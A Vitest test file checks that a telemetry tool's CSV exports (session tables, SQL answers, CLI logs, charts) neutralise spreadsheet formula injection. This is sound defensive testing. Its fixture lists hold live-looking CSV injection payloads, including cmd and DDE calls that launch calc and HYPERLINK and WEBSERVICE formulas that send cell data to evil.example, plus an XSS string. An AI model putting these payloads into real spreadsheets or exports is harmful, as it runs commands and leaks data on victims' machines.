import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { EXPORT_TABLES } from '../../../contract/operations/files.ts';
import { NO_CAPABILITIES } from '../../../contract/operations/session.ts';
import type { Telemetry } from '../../../core/model/telemetry.ts';
import { encodeJson } from '../../../core/otlp/encode-json.ts';
import type { Engine } from '../../../main/engine/api.ts';
import { createEngine } from '../../../main/engine/engine.ts';
import { unwrap } from '../../../main/hosts/cli/problem.ts';
import { uploadFile } from '../../../main/hosts/cli/upload.ts';
import { writeTableCsv } from '../../../renderer/widgets/table/table-text.ts';
import { writeAnswerCsv } from '../../../renderer/views/metrics/answer-csv.ts';
import { modelAnswer } from '../../../renderer/views/metrics/answer-model.ts';
import { writeRedCsv } from '../../../renderer/views/services/red-csv.ts';
import { answerCsv } from '../../../renderer/views/sql/answer-files.ts';
import { runCliProcess } from '../../helpers/run-cli.ts';
import { findFormulas, openCsv, withoutGuard } from '../../helpers/spreadsheet.ts';
import {
  attributes,
  logRecord,
  logs,
  metric,
  metrics,
  span,
  spanId,
  traceId,
  traces,
} from '../../helpers/telemetry.ts';
import { makeTempDir } from '../../helpers/temp-dir.ts';

/* Every table that leaves as CSV, opened by others' code: DuckDB takes the file apart, HyperFormula is the spreadsheet. */

// The command line starts as a process of its own.
vi.setConfig({ testTimeout: 60_000 });

/** What a spreadsheet runs when it is let. */
const FORMULAS = [
  ...['=1+1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?leak="&A1,"Error: click")'],
  ...['=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://evil.example","//a")', '=DDE("cmd";"/C calc";"x")'],
];
/** What some take for one, what breaks out of a cell, and what is only odd. */
const NAUGHTY = [
  ...['+1+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '＝1+1', '＋1', '－1', '＠SUM(1)', '﹦1'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u3000＝1+1', '\ufeff=1+1', '\u200b=1+1'],
  ...['"=1+1', '",=1+1', 'a","=1+1', 'a\r\n=1+1', 'a\n=1+1\n', ';=1+1', "'=1+1", "''-x", "it's"],
  ...[
    '한글, "따옴표"\n줄바꿈',
    '\u202egnp.exe',
    '<script>alert(1)</script>',
    '🎉',
    'NULL',
    'null',
    '\\N',
    '\\"',
    '-5',
    '1e5',
  ],
];
const ALL = [...FORMULAS, ...NAUGHTY];
/** DuckDB guesses how lines end by the first break it sees, also where that stands in quotes. */
const HEADS = ALL.filter((text) => !/[\r\n]/.test(text));
/** DuckDB's client takes a byte order mark off the beginning of a text. */
const ANSWERED = ALL.filter((text) => !text.startsWith('\ufeff'));
const START = 1_763_800_000_000_000_000n;

function hostileTelemetry(): Telemetry[] {
  const at = (i: number) => START + BigInt(i) * 1_000_000n;
  const spans = ALL.map((text, i) =>
    span({
      ...{ traceId: traceId(i + 1), spanId: spanId(i + 1), name: text, attributes: attributes({ [text]: text }) },
      ...{ startTimeUnixNano: at(i), endTimeUnixNano: at(i + 1), traceState: text },
      status: { code: 2, message: text },
      events: [{ timeUnixNano: at(i), name: text, attributes: [], droppedAttributesCount: 0 }],
      links: [
        {
          traceId: traceId(i + 2),
          spanId: spanId(9),
          traceState: text,
          flags: 0,
          attributes: [],
          droppedAttributesCount: 0,
        },
      ],
    }),
  );
  const records = ALL.map((text, i) =>
    logRecord({ timeUnixNano: at(i), severityText: text, body: { kind: 'string', value: text } }),
  );
  const point = { attributes: [], startTimeUnixNano: START, flags: 0, exemplars: [] };
  const gauges = ALL.map((text, i) =>
    metric(
      text,
      { kind: 'gauge', dataPoints: [{ ...point, timeUnixNano: at(i), value: { kind: 'double', value: -1.5 } }] },
      { unit: text, description: text },
    ),
  );
  return [traces(FORMULAS[0]!, ...spans), logs(FORMULAS[1]!, ...records), metrics(FORMULAS[2]!, ...gauges)];
}

/** No formula in it, and of the cells each is what was written: all of `texts` are found again. */
async function expectHarmless(csv: string, texts: readonly string[] = ALL, columns = columnsOf(csv)) {
  const { cells, formulas } = await openCsv(csv, columns);
  expect(formulas).toEqual([]);
  const read = new Set(cells.flat().map((cell) => withoutGuard(cell ?? '')));
  expect(texts.filter((text) => !read.has(text))).toEqual([]);
  return cells;
}

/** Where no name of a column has a comma or a break in it. */
const columnsOf = (csv: string): number => csv.slice(0, csv.indexOf('\r\n')).split(',').length;

async function exportTable(engine: Engine, table: (typeof EXPORT_TABLES)[number]): Promise<string> {
  const begun = await engine.call('export.begin', { format: 'csv', scope: { kind: 'all' }, table, redact: false });
  if (!begun.ok) throw new Error(begun.error.message);
  const parts: Uint8Array[] = [];
  for (;;) {
    const piece = await engine.call('export.next', { exportId: begun.value.exportId });
    if (!piece.ok) throw new Error(piece.error.message);
    parts.push(piece.value.bytes);
    if (piece.value.done) return Buffer.concat(parts).toString();
  }
}

async function openDump() {
  const file = join(await makeTempDir(), 'hostile.json');
  await writeFile(file, encodeJson(hostileTelemetry()));
  const engine = await createEngine({
    ...{ storePath: ':memory:', engineVersion: 'test', allowSql: true, samplePath: '', receivers: null },
    capabilities: { host: 'test', ...NO_CAPABILITIES },
  });
  onTestFinished(() => engine.close());
  unwrap(await uploadFile(engine, file, new AbortController().signal));
  return { file, engine };
}

test('the spreadsheet runs these where nothing guards them', () => {
  expect(findFormulas([FORMULAS, NAUGHTY])).toEqual(FORMULAS);
});

test('every table of a session', async () => {
  const { engine } = await openDump();
  for (const table of EXPORT_TABLES) {
    const cells = await expectHarmless(await exportTable(engine, table));
    expect(cells.length, table).toBe(ALL.length + 1);
  }
});

test('answers in SQL, of the page and of the command line; numbers stay numbers', async () => {
  const { engine, file } = await openDump();
  const sql = `SELECT name, status_message AS "=1+1", -duration_ns AS lost, (-1.50)::DECIMAL(5,2) AS rate FROM spans`;
  const answer = unwrap(await engine.call('sql.query', { sql }));
  const { code, out } = await runCliProcess(['query', '--store', file, sql, '--format', 'csv']);
  expect(code).toBe(0);
  for (const csv of [answerCsv(answer).join(''), out]) {
    const [head, ...rows] = await expectHarmless(csv, ANSWERED);
    expect(head!.map((cell) => withoutGuard(cell!))).toEqual(['name', '=1+1', 'lost', 'rate']);
    for (const [, , lost, rate] of rows) expect([lost, rate]).toEqual(['-1000000', '-1.50']);
  }
});

test('log records and their patterns, of the command line', async () => {
  const { file } = await openDump();
  const run = async (...more: string[]) => (await runCliProcess(['logs', file, '--format', 'csv', ...more])).out;
  await expectHarmless(await run());
  await expectHarmless(await run('--patterns'), []);
});

describe('tables of the page', () => {
  test('a list', async () => {
    const columns = ['=head', 'name'].map((label) => ({
      ...{ id: label, label, width: 0, render: () => '', text: (text: string) => text },
    }));
    await expectHarmless(writeTableCsv(ALL, [columns[0]!, { ...columns[1]!, align: 'end' }]), [...ALL, '=head']);
  });

  test('the figures of a service', async () => {
    const lines = HEADS.map((label) => ({ label, value: [-1.5, NaN] }));
    const [head, first, second] = await expectHarmless(
      writeRedCsv(FORMULAS[0]!, NAUGHTY[0]!, START, [0, 1e9], lines),
      [...HEADS, '-1.5'],
      3 + HEADS.length,
    );
    expect(head).toHaveLength(first!.length);
    expect(first!.slice(3)).toEqual(HEADS.map(() => '-1.5'));
    expect(second!.slice(3)).toEqual(HEADS.map(() => null));
  });

  test('the chart of a metric', async () => {
    const labels = Object.fromEntries(HEADS.map((text) => [text, text]));
    const column = Float64Array.of(-2);
    const answered = {
      ...{ labels, quantile: NaN, streams: 1 },
      frame: {
        ...{ revision: 1, rows: 1, baseNs: START.toString(), truncated: false },
        columns: { time: Float64Array.of(0), value: column, low: column, high: column },
      },
    };
    const model = modelAnswer({ lines: [answered], others: null, shownUnit: FORMULAS[2]!, groups: 1 }, String);
    const named = { name: FORMULAS[0]!, service: FORMULAS[1]! };
    await expectHarmless(writeAnswerCsv(named, 'value', model, new Set()), [...HEADS, '-2'], 8 + HEADS.length);
  });
});
